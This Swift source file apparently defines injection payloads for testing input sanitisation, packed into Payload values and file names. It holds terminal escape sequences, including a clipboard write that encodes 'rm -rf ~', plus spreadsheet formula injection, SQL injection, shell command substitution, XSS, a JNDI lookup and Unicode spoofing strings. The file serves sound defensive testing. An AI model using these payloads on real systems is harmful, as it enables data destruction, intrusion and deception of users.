/// Text that does harm where it is not made inert: to a terminal, a log, a spreadsheet, a query, a shell.
struct Payload: Sendable {
    var name: String
    var text: String

    static let all = [
        Payload(name: "clear", text: "\u{1B}[2J\u{1B}[HAPPROVED"),
        Payload(name: "hide", text: "Total: 9000.00\u{1B}[8m hidden \u{1B}[0m"),
        Payload(name: "cursor", text: "Total: 100.00\u{1B}[1A\u{1B}[2KStatus: verified"),
        Payload(name: "title", text: "\u{1B}]0;pwned\u{7}"),
        Payload(name: "link", text: "\u{1B}]8;;file:///etc/hostname\u{1B}\\click\u{1B}]8;;\u{1B}\\"),
        Payload(name: "clipboard", text: "\u{1B}]52;c;cm0gLXJmIH4=\u{7}"),
        Payload(name: "report", text: "\u{1B}[6n\u{1B}[c\u{1B}P$q\"p\u{1B}\\"),
        Payload(name: "c1", text: "\u{9B}2J\u{9B}31mred"),
        Payload(name: "overwrite", text: "Total: 100\u{8}\u{8}\u{8}999\u{7}\rTotal: 999"),
        Payload(name: "nul", text: "a\u{0}b\u{1}c\u{1F}d\u{7F}e\u{2028}f\u{2029}g"),
        Payload(name: "bidi", text: "invoice_\u{202E}fdp.exe \u{2066}\u{2067}\u{2069} 100 \u{200F}900"),
        Payload(name: "invisible", text: "To\u{200B}t\u{200D}al: 1\u{2060}000.00\u{FEFF}\u{AD}\u{E0041}"),
        Payload(name: "marks", text: "T" + String(repeating: "\u{300}\u{316}", count: 200) + "otal"),
        Payload(name: "forged", text: "x\n2026-03-14T00:00:00Z info approved by=admin"),
        Payload(name: "equals", text: "=cmd|' /C calc'!A0"),
        Payload(name: "hyperlink", text: "=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")"),
        Payload(name: "plus", text: "+1+1"), Payload(name: "minus", text: "-2+3+cmd|' /C calc'!A0"),
        Payload(name: "at", text: "@SUM(1+1)*cmd|' /C calc'!A0"), Payload(name: "tab", text: "\t=1+1"),
        Payload(name: "accent", text: "x\"\u{301},=1+1,\"\u{301} level=\u{301}x"),
        Payload(name: "sql", text: "Robert'); DROP TABLE document;--"),
        Payload(name: "union", text: "' UNION SELECT sql FROM sqlite_master --"),
        Payload(name: "query", text: "NEAR(a b, 5) AND NOT \"c* OR col:x ^y"),
        Payload(name: "unbalanced", text: "\"unbalanced ( quote * - + : {a b}:c"),
        Payload(name: "json", text: "\"}],\"status\":\"accepted\",\"x\":[{\"y\":\""),
        Payload(name: "shell", text: "$(touch pwned) `touch pwned` ; touch pwned | touch pwned"),
        Payload(name: "markup", text: "<script>alert(1)</script>\" onmouseover=\"alert(1)"),
        Payload(name: "format", text: "%s%s%n%x %@ \\(x) ${jndi:ldap://x.invalid/a}"),
        Payload(name: "dash", text: "--help"),
    ]

    /// The payload as the name of a file: all of it that a name can hold.
    var fileName: String {
        let possible = text.unicodeScalars.filter { $0 != "/" && $0 != "\u{0}" }.prefix(40)
        return String(String.UnicodeScalarView(possible)) + " \(name).pdf"
    }
}
